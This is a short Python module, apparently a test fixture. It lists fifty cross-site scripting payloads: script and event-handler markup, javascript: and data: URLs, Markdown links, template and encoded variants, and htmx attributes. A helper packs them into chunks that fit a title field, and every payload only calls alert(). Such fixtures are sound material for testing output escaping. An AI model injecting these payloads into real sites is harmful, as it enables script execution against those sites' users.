"""What would run in a browser if a page showed it as it stands: one way of getting in each."""

CORPUS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt/x>alert(3)</sCrIpT>",
    "<img src=x onerror=alert(4)>",
    "<img/src=x/onerror=alert`5`>",
    "<svg onload=alert(6)>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s></svg>",
    "<body onload=alert(8)>",
    "<details open ontoggle=alert(9)>",
    "<input autofocus onfocus=alert(10)>",
    "<iframe srcdoc='<script>parent.alert(11)</script>'></iframe>",
    "<iframe src=javascript:alert(12)></iframe>",
    "<object data=javascript:alert(13)></object>",
    "<a href=javascript:alert(14)>x</a>",
    "<form action=javascript:alert(15)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(16)'>",
    "<base href=javascript:/a/-alert(17)/>",
    '"><script>alert(18)</script>',
    "'><script>alert(19)</script>",
    '" onmouseover=alert(20) autofocus onfocus=alert(20) x="',
    "' onmouseover=alert(21) autofocus onfocus=alert(21) x='",
    "` onmouseover=alert(22) `",
    "</title><script>alert(23)</script>",
    "</textarea><script>alert(24)</script>",
    "</pre></code><script>alert(25)</script>",
    "</option></select><img src=x onerror=alert(26)>",
    "</style><script>alert(27)</script>",
    "--><script>alert(28)</script><!--",
    "]]><script>alert(29)</script>",
    "<math><mtext><mglyph><style><!--</style><img title='--><img src=x onerror=alert(30)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(31)>'>",
    "[x](javascript:alert(32))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgzMyk8L3NjcmlwdD4=)",
    "![x](javascript:alert(34))",
    "<javascript:alert(35)>",
    "[x]: javascript:alert(36)",
    "{{ 7 * 7 }}{% for x in () %}",
    "${alert(38)}",
    "&lt;script&gt;alert(39)&lt;/script&gt;",
    "&#60;script&#62;alert(40)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(41)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(42)%3C/script%3E",
    "\u2028alert(43)\u2029",
    "<div hx-get=/console/settings hx-trigger=load hx-on:htmx:load=alert(44)></div>",
    "<div data-hx-on--load=alert(45) hx-vals='js:{a: alert(45)}'></div>",
    "<button data-key=a formaction=javascript:alert(46)>x</button>",
    "<link rel=stylesheet href=data:text/css,body{display:none}>",
    "<style>@import 'javascript:alert(48)';</style>",
    "<template><script>alert(49)</script></template>",
    "<marquee onstart=alert(50)>x</marquee>",
)
"""Fifty short ones; markup, attributes, addresses, Markdown, templates, encodings, htmx."""
_A_FIELD = 430


def in_fields() -> list[str]:
    """The corpus in pieces that fit into a title."""
    pieces = [""]
    for one in CORPUS:
        if pieces[-1] and len(pieces[-1]) + len(one) > _A_FIELD:
            pieces.append("")
        pieces[-1] += one
    return pieces
